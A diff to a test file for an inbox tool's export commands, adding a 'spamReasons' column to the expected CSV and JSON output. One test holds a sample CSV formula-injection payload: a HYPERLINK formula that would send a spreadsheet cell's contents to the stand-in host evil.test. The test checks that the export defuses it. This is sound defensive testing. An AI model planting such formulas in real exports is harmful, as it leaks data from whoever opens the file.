@@ -173,8 +173,8 @@ describe('the inbox commands', () => {
   test('export --format csv quotes commas, quotes and line breaks as RFC 4180 asks', async () => {
     await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Lovelace, Ada', email: 'ada@example.org', message: 'She said "hello",\r\nthen left.' });
     expect((await run({ name: 'export', format: 'csv' })).out).toBe(
-      'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt\r\n' +
-        '1,2026-05-01T08:00:00.000Z,"Lovelace, Ada",ada@example.org,"She said ""hello"",\r\nthen left.",pending,0,2026-05-01T08:00:00.000Z,,\r\n',
+      'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt,spamReasons\r\n' +
+        '1,2026-05-01T08:00:00.000Z,"Lovelace, Ada",ada@example.org,"She said ""hello"",\r\nthen left.",pending,0,2026-05-01T08:00:00.000Z,,,\r\n',
     );
   });
 
@@ -186,8 +186,8 @@ describe('the inbox commands', () => {
       message: '@SUM(1,2) then more',
     });
     expect((await run({ name: 'export', format: 'csv' })).out).toBe(
-      'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt\r\n' +
-        `1,2026-05-01T08:00:00.000Z,"'=HYPERLINK(""http://evil.test/?x=""&C2,""Click"")",eve@example.org,"'@SUM(1,2) then more",pending,0,2026-05-01T08:00:00.000Z,,\r\n`,
+      'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt,spamReasons\r\n' +
+        `1,2026-05-01T08:00:00.000Z,"'=HYPERLINK(""http://evil.test/?x=""&C2,""Click"")",eve@example.org,"'@SUM(1,2) then more",pending,0,2026-05-01T08:00:00.000Z,,,\r\n`,
     );
   });
 
@@ -207,13 +207,14 @@ describe('the inbox commands', () => {
         nextAttemptAt: '2026-05-01T08:00:00.000Z',
         lastError: null,
         sentAt: null,
+        spamReasons: [],
       },
     ]);
   });
 
   test('export of an empty inbox is an empty array and a header row', async () => {
     expect(JSON.parse((await run({ name: 'export', format: 'json' })).out)).toEqual([]);
-    expect((await run({ name: 'export', format: 'csv' })).out).toBe('id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt\r\n');
+    expect((await run({ name: 'export', format: 'csv' })).out).toBe('id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt,spamReasons\r\n');
   });
 
   test('retry puts a failed message back in the queue, due at once, with the requeue in its history', async () => {
